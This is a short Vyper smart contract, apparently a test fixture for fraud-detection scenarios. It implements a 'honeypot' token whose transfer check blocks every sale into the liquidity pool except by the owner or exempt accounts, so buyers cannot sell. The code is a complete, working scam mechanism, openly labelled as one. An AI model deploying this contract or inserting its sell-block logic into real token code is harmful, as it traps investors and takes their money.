# pragma version ~=0.4.3
"""
@title HoneypotToken
@notice A scam token for the fraud scenarios (a "sell-blocked" honeypot): anyone can buy it
        from its pool, but every transfer into the pool (a sell) reverts unless it comes from
        the owner. Never deploy this anywhere but a test chain.
"""

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

name: public(String[32])
symbol: public(String[16])
decimals: public(uint8)
totalSupply: public(uint256)
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
owner: public(address)
pool: public(address)
exempt: public(HashMap[address, bool])


@deploy
def __init__(name: String[32], symbol: String[16], decimals: uint8, supply: uint256):
    self.name = name
    self.symbol = symbol
    self.decimals = decimals
    self.totalSupply = supply
    self.owner = msg.sender
    self.balanceOf[msg.sender] = supply
    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)


@external
def setPool(pool: address):
    """@notice Arms the trap: from now on only the owner can sell into `pool`."""
    assert msg.sender == self.owner, "not owner"
    self.pool = pool


@external
def setExempt(account: address, exempt: bool):
    """@notice Lets `account` sell like the owner (a privileged seller)."""
    assert msg.sender == self.owner, "not owner"
    self.exempt[account] = exempt


@internal
def _transfer(sender: address, receiver: address, amount: uint256):
    assert receiver != empty(address), "transfer to zero"
    assert receiver != self.pool or sender == self.owner or self.exempt[sender], "TRANSFER_FAILED"
    self.balanceOf[sender] -= amount
    self.balanceOf[receiver] += amount
    log Transfer(sender=sender, receiver=receiver, value=amount)


@external
def transfer(receiver: address, amount: uint256) -> bool:
    self._transfer(msg.sender, receiver, amount)
    return True


@external
def transferFrom(sender: address, receiver: address, amount: uint256) -> bool:
    allowed: uint256 = self.allowance[sender][msg.sender]
    if allowed != max_value(uint256):
        self.allowance[sender][msg.sender] = allowed - amount
    self._transfer(sender, receiver, amount)
    return True


@external
def approve(spender: address, amount: uint256) -> bool:
    self.allowance[msg.sender][spender] = amount
    log Approval(owner=msg.sender, spender=spender, value=amount)
    return True
